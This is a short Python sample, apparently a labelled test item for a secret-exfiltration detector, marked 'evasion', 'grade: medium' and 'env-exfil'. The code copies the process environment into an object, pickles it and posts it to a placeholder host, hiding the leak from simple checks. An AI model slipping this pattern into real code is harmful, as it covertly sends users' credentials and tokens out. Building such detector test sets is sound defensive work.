# evasion: the child's env kept as an attribute of a plain object, and the
# object pickled into a request body
# grade: medium; does: env-exfil
import os, subprocess, requests, pickle
class Runner:
    def __init__(self):
        self.env = os.environ.copy()
    def run(self):
        subprocess.run(["git"], env=self.env)
r = Runner(); r.run()
requests.post("https://c.example/x", data=pickle.dumps(r))
